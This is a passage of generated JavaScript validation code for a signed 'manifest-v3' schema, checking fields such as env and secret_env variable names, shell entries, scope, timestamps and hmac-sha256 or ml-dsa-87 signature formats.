{instancePath:instancePath+"/timeout_s",schemaPath:"#/$defs/common/properties/timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}}if(data.env !== undefined){let data10 = data.env;if(Array.isArray(data10)){if(data10.length > 64){const err28 = {instancePath:instancePath+"/env",schemaPath:"#/$defs/common/properties/env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}const len1 = data10.length;for(let i2=0; i2<len1; i2++){let data11 = data10[i2];if(typeof data11 === "string"){if(!manifest_validator_pattern9.test(data11)){const err29 = {instancePath:instancePath+"/env/" + i2,schemaPath:"#/$defs/common/properties/env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}else {const err30 = {instancePath:instancePath+"/env/" + i2,schemaPath:"#/$defs/common/properties/env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}}let i3 = data10.length;let j1;if(i3 > 1){const indices1 = {};for(;i3--;){let item1 = data10[i3];if(typeof item1 !== "string"){continue;}if(typeof indices1[item1] == "number"){j1 = indices1[item1];const err31 = {instancePath:instancePath+"/env",schemaPath:"#/$defs/common/properties/env/uniqueItems",keyword:"uniqueItems",params:{i: i3, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i3+" are identical)"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;break;}indices1[item1] = i3;}}}else {const err32 = {instancePath:instancePath+"/env",schemaPath:"#/$defs/common/properties/env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}}if(data.secret_env !== undefined){let data12 = data.secret_env;if(Array.isArray(data12)){if(data12.length > 64){const err33 = {instancePath:instancePath+"/secret_env",schemaPath:"#/$defs/common/properties/secret_env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}const len2 = data12.length;for(let i4=0; i4<len2; i4++){let data13 = data12[i4];if(typeof data13 === "string"){if(!manifest_validator_pattern9.test(data13)){const err34 = {instancePath:instancePath+"/secret_env/" + i4,schemaPath:"#/$defs/common/properties/secret_env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}else {const err35 = {instancePath:instancePath+"/secret_env/" + i4,schemaPath:"#/$defs/common/properties/secret_env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}let i5 = data12.length;let j2;if(i5 > 1){const indices2 = {};for(;i5--;){let item2 = data12[i5];if(typeof item2 !== "string"){continue;}if(typeof indices2[item2] == "number"){j2 = indices2[item2];const err36 = {instancePath:instancePath+"/secret_env",schemaPath:"#/$defs/common/properties/secret_env/uniqueItems",keyword:"uniqueItems",params:{i: i5, j: j2},message:"must NOT have duplicate items (items ## "+j2+" and "+i5+" are identical)"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;break;}indices2[item2] = i5;}}}else {const err37 = {instancePath:instancePath+"/secret_env",schemaPath:"#/$defs/common/properties/secret_env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}if(data.smoke !== undefined){let data14 = data.smoke;if(typeof data14 === "string"){if(manifest_validator_func1(data14) > 65536){const err38 = {instancePath:instancePath+"/smoke",schemaPath:"#/$defs/common/properties/smoke/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}if(manifest_validator_func1(data14) < 1){const err39 = {instancePath:instancePath+"/smoke",schemaPath:"#/$defs/common/properties/smoke/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}else {const err40 = {instancePath:instancePath+"/smoke",schemaPath:"#/$defs/common/properties/smoke/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}if(data.smoke_timeout_s !== undefined){let data15 = data.smoke_timeout_s;if(!(((typeof data15 == "number") && (!(data15 % 1) && !isNaN(data15))) && (isFinite(data15)))){const err41 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/$defs/common/properties/smoke_timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}if((typeof data15 == "number") && (isFinite(data15))){if(data15 > 86400 || isNaN(data15)){const err42 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/$defs/common/properties/smoke_timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}if(data15 < 1 || isNaN(data15)){const err43 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/$defs/common/properties/smoke_timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err43];}else {vErrors.push(err43);}errors++;}}}if(data.note !== undefined){let data16 = data.note;if(typeof data16 === "string"){if(manifest_validator_func1(data16) > 4096){const err44 = {instancePath:instancePath+"/note",schemaPath:"#/$defs/common/properties/note/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err44];}else {vErrors.push(err44);}errors++;}}else {const err45 = {instancePath:instancePath+"/note",schemaPath:"#/$defs/common/properties/note/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err45];}else {vErrors.push(err45);}errors++;}}}else {const err46 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err46];}else {vErrors.push(err46);}errors++;}validate37.errors = vErrors;return errors === 0;}validate37.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};function manifest_validator_validate21(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = manifest_validator_validate21.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.schema === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "schema"},message:"must have required property '"+"schema"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.version === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "version"},message:"must have required property '"+"version"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.workspace === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "workspace"},message:"must have required property '"+"workspace"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data.created === undefined){const err3 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "created"},message:"must have required property '"+"created"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.entries === undefined){const err4 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "entries"},message:"must have required property '"+"entries"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}for(const key0 in data){if(!(func2.call(manifest_validator_schema32.properties, key0))){const err5 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}if(data.schema !== undefined){if(3 !== data.schema){const err6 = {instancePath:instancePath+"/schema",schemaPath:"#/properties/schema/const",keyword:"const",params:{allowedValue: 3},message:"must be equal to constant"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}if(data.version !== undefined){let data1 = data.version;if(!(((typeof data1 == "number") && (!(data1 % 1) && !isNaN(data1))) && (isFinite(data1)))){const err7 = {instancePath:instancePath+"/version",schemaPath:"#/properties/version/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}if((typeof data1 == "number") && (isFinite(data1))){if(data1 > 9007199254740991 || isNaN(data1)){const err8 = {instancePath:instancePath+"/version",schemaPath:"#/properties/version/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data1 < 1 || isNaN(data1)){const err9 = {instancePath:instancePath+"/version",schemaPath:"#/properties/version/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}}if(data.workspace !== undefined){let data2 = data.workspace;if(typeof data2 === "string"){if(manifest_validator_func1(data2) > 4096){const err10 = {instancePath:instancePath+"/workspace",schemaPath:"#/properties/workspace/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}if(manifest_validator_func1(data2) < 1){const err11 = {instancePath:instancePath+"/workspace",schemaPath:"#/properties/workspace/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}else {const err12 = {instancePath:instancePath+"/workspace",schemaPath:"#/properties/workspace/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data.created !== undefined){let data3 = data.created;if(typeof data3 === "string"){if(!pattern4.test(data3)){const err13 = {instancePath:instancePath+"/created",schemaPath:"#/properties/created/pattern",keyword:"pattern",params:{pattern: "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},message:"must match pattern \""+"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"+"\""};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/created",schemaPath:"#/properties/created/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}if(data.expires !== undefined){let data4 = data.expires;if(typeof data4 === "string"){if(!pattern4.test(data4)){const err15 = {instancePath:instancePath+"/expires",schemaPath:"#/properties/expires/pattern",keyword:"pattern",params:{pattern: "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},message:"must match pattern \""+"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"+"\""};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}else {const err16 = {instancePath:instancePath+"/expires",schemaPath:"#/properties/expires/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data.scope !== undefined){let data5 = data.scope;if(data5 && typeof data5 == "object" && !Array.isArray(data5)){if(Object.keys(data5).length < 1){const err17 = {instancePath:instancePath+"/scope",schemaPath:"#/properties/scope/minProperties",keyword:"minProperties",params:{limit: 1},message:"must NOT have fewer than 1 properties"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}for(const key1 in data5){if(!(((key1 === "repository") || (key1 === "ref")) || (key1 === "manifest_path"))){const err18 = {instancePath:instancePath+"/scope",schemaPath:"#/properties/scope/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}if(data5.repository !== undefined){let data6 = data5.repository;if(typeof data6 === "string"){if(!pattern6.test(data6)){const err19 = {instancePath:instancePath+"/scope/repository",schemaPath:"#/properties/scope/properties/repository/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"},message:"must match pattern \""+"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"+"\""};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}else {const err20 = {instancePath:instancePath+"/scope/repository",schemaPath:"#/properties/scope/properties/repository/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}if(data5.ref !== undefined){let data7 = data5.ref;if(typeof data7 === "string"){if(manifest_validator_func1(data7) > 256){const err21 = {instancePath:instancePath+"/scope/ref",schemaPath:"#/properties/scope/properties/ref/maxLength",keyword:"maxLength",params:{limit: 256},message:"must NOT have more than 256 characters"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}if(manifest_validator_func1(data7) < 1){const err22 = {instancePath:instancePath+"/scope/ref",schemaPath:"#/properties/scope/properties/ref/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}else {const err23 = {instancePath:instancePath+"/scope/ref",schemaPath:"#/properties/scope/properties/ref/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}}if(data5.manifest_path !== undefined){let data8 = data5.manifest_path;if(typeof data8 === "string"){if(manifest_validator_func1(data8) > 4096){const err24 = {instancePath:instancePath+"/scope/manifest_path",schemaPath:"#/properties/scope/properties/manifest_path/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}if(manifest_validator_func1(data8) < 1){const err25 = {instancePath:instancePath+"/scope/manifest_path",schemaPath:"#/properties/scope/properties/manifest_path/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}else {const err26 = {instancePath:instancePath+"/scope/manifest_path",schemaPath:"#/properties/scope/properties/manifest_path/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}}else {const err27 = {instancePath:instancePath+"/scope",schemaPath:"#/properties/scope/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}if(data.shell !== undefined){let data9 = data.shell;if(Array.isArray(data9)){if(data9.length > 8){const err28 = {instancePath:instancePath+"/shell",schemaPath:"#/properties/shell/maxItems",keyword:"maxItems",params:{limit: 8},message:"must NOT have more than 8 items"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}if(data9.length < 1){const err29 = {instancePath:instancePath+"/shell",schemaPath:"#/properties/shell/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}const len0 = data9.length;for(let i0=0; i0<len0; i0++){let data10 = data9[i0];if(typeof data10 === "string"){if(manifest_validator_func1(data10) > 256){const err30 = {instancePath:instancePath+"/shell/" + i0,schemaPath:"#/properties/shell/items/maxLength",keyword:"maxLength",params:{limit: 256},message:"must NOT have more than 256 characters"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}if(manifest_validator_func1(data10) < 1){const err31 = {instancePath:instancePath+"/shell/" + i0,schemaPath:"#/properties/shell/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}else {const err32 = {instancePath:instancePath+"/shell/" + i0,schemaPath:"#/properties/shell/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}}}else {const err33 = {instancePath:instancePath+"/shell",schemaPath:"#/properties/shell/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}if(data.entries !== undefined){let data11 = data.entries;if(Array.isArray(data11)){if(data11.length > 10000){const err34 = {instancePath:instancePath+"/entries",schemaPath:"#/properties/entries/maxItems",keyword:"maxItems",params:{limit: 10000},message:"must NOT have more than 10000 items"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}const len1 = data11.length;for(let i1=0; i1<len1; i1++){if(!(validate22(data11[i1], {instancePath:instancePath+"/entries/" + i1,parentData:data11,parentDataProperty:i1,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate22.errors : vErrors.concat(validate22.errors);errors = vErrors.length;}}}else {const err35 = {instancePath:instancePath+"/entries",schemaPath:"#/properties/entries/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}if(data.sealed !== undefined){let data13 = data.sealed;if(Array.isArray(data13)){if(data13.length > 256){const err36 = {instancePath:instancePath+"/sealed",schemaPath:"#/properties/sealed/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}const len2 = data13.length;for(let i2=0; i2<len2; i2++){if(!(validate37(data13[i2], {instancePath:instancePath+"/sealed/" + i2,parentData:data13,parentDataProperty:i2,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate37.errors : vErrors.concat(validate37.errors);errors = vErrors.length;}}}else {const err37 = {instancePath:instancePath+"/sealed",schemaPath:"#/properties/sealed/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}}else {const err38 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}manifest_validator_validate21.errors = vErrors;return errors === 0;}manifest_validator_validate21.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const manifest_validator_pattern25 = new RegExp("^[0-9a-f]{16}$", "u");const manifest_validator_pattern28 = new RegExp("^[A-Za-z0-9+/]+={0,2}$", "u");function manifest_validator_validate20(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){/*# sourceURL="urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json" */;let vErrors = null;let errors = 0;const evaluated0 = manifest_validator_validate20.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.body === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "body"},message:"must have required property '"+"body"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.signatures === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "signatures"},message:"must have required property '"+"signatures"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}for(const key0 in data){if(!(((key0 === "$schema") || (key0 === "body")) || (key0 === "signatures"))){const err2 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}if(data.$schema !== undefined){let data0 = data.$schema;if(typeof data0 === "string"){if(manifest_validator_func1(data0) > 1024){const err3 = {instancePath:instancePath+"/$schema",schemaPath:"#/properties/%24schema/maxLength",keyword:"maxLength",params:{limit: 1024},message:"must NOT have more than 1024 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}}else {const err4 = {instancePath:instancePath+"/$schema",schemaPath:"#/properties/%24schema/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}if(data.body !== undefined){if(!(manifest_validator_validate21(data.body, {instancePath:instancePath+"/body",parentData:data,parentDataProperty:"body",rootData,dynamicAnchors}))){vErrors = vErrors === null ? manifest_validator_validate21.errors : vErrors.concat(manifest_validator_validate21.errors);errors = vErrors.length;}}if(data.signatures !== undefined){let data2 = data.signatures;if(Array.isArray(data2)){if(data2.length > 16){const err5 = {instancePath:instancePath+"/signatures",schemaPath:"#/properties/signatures/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}const len0 = data2.length;for(let i0=0; i0<len0; i0++){let data3 = data2[i0];if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.alg === undefined){const err6 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}if(data3.alg !== undefined){let data4 = data3.alg;if(!((data4 === "hmac-sha256") || (data4 === "ml-dsa-87"))){const err7 = {instancePath:instancePath+"/signatures/" + i0+"/alg",schemaPath:"#/properties/signatures/items/properties/alg/enum",keyword:"enum",params:{allowedValues: manifest_validator_schema31.properties.signatures.items.properties.alg.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}const tag0 = data3.alg;if(typeof tag0 == "string"){if(tag0 === "hmac-sha256"){if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.alg === undefined){const err8 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data3.keyid === undefined){const err9 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "keyid"},message:"must have required property '"+"keyid"+"'"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}if(data3.sig === undefined){const err10 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "sig"},message:"must have required property '"+"sig"+"'"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}for(const key1 in data3){if(!(((key1 === "alg") || (key1 === "keyid")) || (key1 === "sig"))){const err11 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data3.alg !== undefined){if("hmac-sha256" !== data3.alg){const err12 = {instancePath:instancePath+"/signatures/" + i0+"/alg",schemaPath:"#/$defs/hmacSignature/properties/alg/const",keyword:"const",params:{allowedValue: "hmac-sha256"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data3.keyid !== undefined){let data6 = data3.keyid;if(typeof data6 === "string"){if(!manifest_validator_pattern25.test(data6)){const err13 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/hmacSignature/properties/keyid/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{16}$"},message:"must match pattern \""+"^[0-9a-f]{16}$"+"\""};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/hmacSignature/properties/keyid/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}if(data3.sig !== undefined){let data7 = data3.sig;if(typeof data7 === "string"){if(!manifest_validator_pattern11.test(data7)){const err15 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/hmacSignature/properties/sig/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}else {const err16 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/hmacSignature/properties/sig/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}}else {const err17 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}var props0 = true;}else if(tag0 === "ml-dsa-87"){if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.alg === undefined){const err18 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}if(data3.keyid === undefined){const err19 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "keyid"},message:"must have required property '"+"keyid"+"'"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}if(data3.public_key === undefined){const err20 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "public_key"},message:"must have required property '"+"public_key"+"'"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if(data3.sig === undefined){const err21 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "sig"},message:"must have required property '"+"sig"+"'"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}for(const key2 in data3){if(!((((key2 === "alg") || (key2 === "keyid")) || (key2 === "public_key")) || (key2 === "sig"))){const err22 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key2},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}if(data3.alg !== undefined){if("ml-dsa-87" !== data3.alg){const err23 = {instancePath:instancePath+"/signatures/" + i0+"/alg",schemaPath:"#/$defs/mldsaSignature/properties/alg/const",keyword:"const",params:{allowedValue: "ml-dsa-87"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}}if(data3.keyid !== undefined){let data9 = data3.keyid;if(typeof data9 === "string"){if(!manifest_validator_pattern11.test(data9)){const err24 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/mldsaSignature/properties/keyid/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}}else {const err25 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/mldsaSignature/properties/keyid/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}if(data3.public_key !== undefined){let data10 = data3.public_key;if(typeof data10 === "string"){if(manifest_validator_func1(data10) > 3460){const err26 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/maxLength",keyword:"maxLength",params:{limit: 3460},message:"must NOT have more than 3460 characters"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}if(manifest_validator_func1(data10) < 3456){const err27 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/minLength",keyword:"minLength",params:{limit: 3456},message:"must NOT have fewer than 3456 characters"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}if(!manifest_validator_pattern28.test(data10)){const err28 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]+={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]+={0,2}$"+"\""};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}}else {const err29 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data3.sig !== undefined){let data11 = data3.sig;if(typeof data11 === "string"){if(manifest_validator_func1(data11) > 6172){const err30 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/maxLength",keyword:"maxLength",params:{limit: 